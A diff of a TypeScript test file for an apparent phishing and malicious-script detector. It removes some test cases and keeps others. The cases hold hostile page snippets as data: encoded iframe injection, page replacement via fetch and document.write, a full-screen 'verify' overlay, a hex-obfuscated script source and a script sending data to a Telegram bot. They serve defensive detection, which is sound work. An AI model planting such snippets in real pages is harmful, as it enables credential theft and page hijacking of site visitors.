@@ -38,14 +38,6 @@ describe("what scripts do behind visitors' backs", () => {
       `documentElement.innerHTML=atob("${btoa("<iframe src='https://there.org/'>")}")`,
     ],
     [
-      "a page that is fetched in place of this one",
-      "fetch('https://there.org/p').then(r=>r.text()).then(t=>{document.open();document.write(t)})",
-    ],
-    [
-      "a frame over the window that asks for a proof",
-      "f=createElement('iframe');f.src='https://there.org/verify';f.style='position:fixed;inset:0'",
-    ],
-    [
       "a script whose address is in numbers",
       "l=['\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x74\\x68\\x65\\x72\\x65\\x2e\\x6f\\x72\\x67\\x2f'];createElement('script').src=l[0]",
     ],
@@ -140,13 +132,6 @@ describe("a short page that asks for a password", () => {
   const door = (head: string, more = "") =>
     readPage(`${head}<form><input type=password></form>${more}`, here);
   const weigh = (page: ReturnType<typeof door>) => sumOf(listPhishingReasons(page, here, "Lessons"));
-
-  it("in the sign of a maker, and leads nowhere else, is in his name", () => {
-    const sign = '<title>Sign in</title><img src=a.svg alt="Microsoft">';
-    expect(weigh(door(sign))).toBe(4);
-    expect(weigh(door(sign, "<a href=/help>Help</a>"))).toBe(0);
-    expect(weigh(door('<title>Sign in</title><img src=a.svg alt="River School">'))).toBe(0);
-  });
 
   it("and sends it to a chat is a thief's", () => {
     const script = "<script>fetch('https://api.telegram.org/bot1:x/sendMessage')</script>";
